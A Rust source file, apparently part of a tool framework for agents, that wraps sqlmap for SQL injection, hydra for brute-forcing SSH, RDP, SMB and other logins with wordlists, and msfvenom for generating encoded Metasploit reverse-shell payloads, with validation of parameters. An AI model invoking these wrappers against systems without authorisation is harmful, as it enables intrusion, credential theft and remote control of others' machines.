//! Exploitation and credential tools: SQL injection, login brute forcing
//! and payload generation.

use std::path::PathBuf;
use std::sync::Arc;

use toolbench_domain::tool::{
    BuildError, CommandLine, ParamType, ParameterSpec, ToolBinding, ToolCategory, ToolDescriptor,
    ValidatedParams,
};

use super::{BuiltinTool, choice, int_in, operand, optional_operand};
use crate::tools::artifacts::GeneratedPayload;
use crate::tools::paths::ToolPaths;

pub const HYDRA_SERVICES: [&str; 8] = [
    "ssh",
    "ftp",
    "http-get",
    "http-post-form",
    "mysql",
    "postgres",
    "rdp",
    "smb",
];

const SQLMAP_TECHNIQUES: &str = "BEUSTQ";

pub(super) fn sqlmap() -> BuiltinTool {
    let descriptor = ToolDescriptor::new(
        "sqlmap",
        ToolCategory::Exploitation,
        "Detect and exploit SQL injection",
    )
    .with_parameter(ParameterSpec::required(
        "url",
        "URL with parameters (e.g. http://site/page?id=1)",
    ))
    .with_parameter(ParameterSpec::optional(
        "data",
        "POST body (e.g. username=admin&password=x)",
    ))
    .with_parameter(ParameterSpec::optional("cookie", "Session cookie"))
    .with_parameter(
        ParameterSpec::optional("level", "Test depth, 1-5")
            .with_type(ParamType::Integer)
            .with_default(1i64),
    )
    .with_parameter(
        ParameterSpec::optional("risk", "Payload risk, 1-3")
            .with_type(ParamType::Integer)
            .with_default(1i64),
    )
    .with_parameter(
        ParameterSpec::optional(
            "technique",
            "B boolean, E error, U union, S stacked, T time, Q inline",
        )
        .with_default("BEUST"),
    )
    .with_timeout_secs(600);

    let binding = ToolBinding::new(|params: &ValidatedParams| -> Result<CommandLine, BuildError> {
        let level = int_in(params, "level", 1..=5)?;
        let risk = int_in(params, "risk", 1..=3)?;
        let technique = params.non_empty_str("technique").unwrap_or("BEUST");
        if let Some(bad) = technique.chars().find(|c| !SQLMAP_TECHNIQUES.contains(*c)) {
            return Err(BuildError::invalid(
                "technique",
                format!("unknown technique '{}'", bad),
            ));
        }

        // Values are glued to their option so a leading '-' stays a value
        let mut cmd = CommandLine::new("sqlmap")
            .arg("-u")
            .arg(operand(params, "url")?)
            .arg("--batch")
            .arg(format!("--level={}", level))
            .arg(format!("--risk={}", risk))
            .arg(format!("--technique={}", technique));
        if let Some(data) = params.non_empty_str("data") {
            cmd.push(format!("--data={}", data));
        }
        if let Some(cookie) = params.non_empty_str("cookie") {
            cmd.push(format!("--cookie={}", cookie));
        }
        Ok(cmd)
    });

    BuiltinTool::new(descriptor, binding, "sqlmap")
}

pub(super) fn hydra(paths: Arc<ToolPaths>) -> BuiltinTool {
    let descriptor = ToolDescriptor::new(
        "hydra",
        ToolCategory::Password,
        "Brute force a network login",
    )
    .with_parameter(ParameterSpec::required("target", "IP or hostname"))
    .with_parameter(ParameterSpec::required("service", "Service to attack").choice(HYDRA_SERVICES))
    .with_parameter(ParameterSpec::required("username", "Login name"))
    .with_parameter(
        ParameterSpec::optional("password_list", "rockyou or a wordlist path")
            .with_default("rockyou"),
    )
    .with_parameter(
        ParameterSpec::optional("threads", "Parallel tasks")
            .with_type(ParamType::Integer)
            .with_default(4i64),
    )
    .with_parameter(
        ParameterSpec::optional("port", "Non-default service port").with_type(ParamType::Integer),
    )
    .with_timeout_secs(1800);

    let binding = ToolBinding::new(
        move |params: &ValidatedParams| -> Result<CommandLine, BuildError> {
            let username = operand(params, "username")?;
            let password_list = paths.resolve_wordlist(operand(params, "password_list")?);
            let threads = int_in(params, "threads", 1..=64)?;

            let mut cmd = CommandLine::new("hydra")
                .arg("-l")
                .arg(username)
                .arg("-P")
                .arg(password_list.to_string_lossy())
                .arg("-t")
                .arg(threads.to_string());
            if params.contains("port") {
                cmd.push("-s");
                cmd.push(int_in(params, "port", 1..=65535)?.to_string());
            }
            Ok(cmd
                .arg(operand(params, "target")?)
                .arg(choice(params, "service")?))
        },
    );

    BuiltinTool::new(descriptor, binding, "hydra")
}

pub(super) fn msfvenom(paths: Arc<ToolPaths>) -> BuiltinTool {
    let descriptor = ToolDescriptor::new(
        "msfvenom",
        ToolCategory::Exploitation,
        "Generate a Metasploit payload file",
    )
    .with_parameter(
        ParameterSpec::optional("payload", "Payload name")
            .with_default("android/meterpreter/reverse_tcp"),
    )
    .with_parameter(ParameterSpec::required("lhost", "Listener address"))
    .with_parameter(
        ParameterSpec::optional("lport", "Listener port")
            .with_type(ParamType::Integer)
            .with_default(4444i64),
    )
    .with_parameter(
        ParameterSpec::optional("format", "Output format (raw, exe, elf, ...)").with_default("raw"),
    )
    .with_parameter(ParameterSpec::optional(
        "output",
        "Payload file (default: under the artifact directory)",
    ))
    .with_parameter(ParameterSpec::optional("arch", "Target architecture"))
    .with_parameter(ParameterSpec::optional("platform", "Target platform"))
    .with_parameter(ParameterSpec::optional("encoder", "Encoder name"))
    .with_parameter(
        ParameterSpec::optional("iterations", "Encoding passes").with_type(ParamType::Integer),
    )
    .with_timeout_secs(120);

    let binding = ToolBinding::new(
        move |params: &ValidatedParams| -> Result<CommandLine, BuildError> {
            let payload = module_name(params, "payload")?;
            let lhost = operand(params, "lhost")?;
            if lhost.contains(char::is_whitespace) {
                return Err(BuildError::invalid("lhost", "must not contain whitespace"));
            }
            let lport = int_in(params, "lport", 1..=65535)?;
            let format = module_name(params, "format")?;
            let output = match optional_operand(params, "output")? {
                Some(path) => PathBuf::from(path),
                None => paths.payload_target(format),
            };

            let mut cmd = CommandLine::new("msfvenom")
                .arg("-p")
                .arg(payload)
                .arg(format!("LHOST={}", lhost))
                .arg(format!("LPORT={}", lport));
            if format != "raw" {
                cmd.push("-f");
                cmd.push(format);
            }
            cmd.push("-o");
            cmd.push(output.to_string_lossy());
            if params.contains("arch") {
                cmd.push("--arch");
                cmd.push(module_name(params, "arch")?);
            }
            if params.contains("platform") {
                cmd.push("--platform");
                cmd.push(module_name(params, "platform")?);
            }
            if params.contains("encoder") {
                cmd.push("-e");
                cmd.push(module_name(params, "encoder")?);
            }
            if params.contains("iterations") {
                cmd.push("-i");
                cmd.push(int_in(params, "iterations", 1..=50)?.to_string());
            }
            Ok(cmd.with_artifact(output))
        },
    )
    .with_post_processor(GeneratedPayload);

    BuiltinTool::new(descriptor, binding, "metasploit-framework")
}

/// Metasploit module, format, arch or platform name: `[A-Za-z0-9_/-]`,
/// not starting with `-`.
fn module_name<'a>(params: &'a ValidatedParams, name: &str) -> Result<&'a str, BuildError> {
    let value = operand(params, name)?;
    if !value
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '/' | '-'))
    {
        return Err(BuildError::invalid(
            name,
            format!("'{}' is not a module name", value),
        ));
    }
    Ok(value)
}
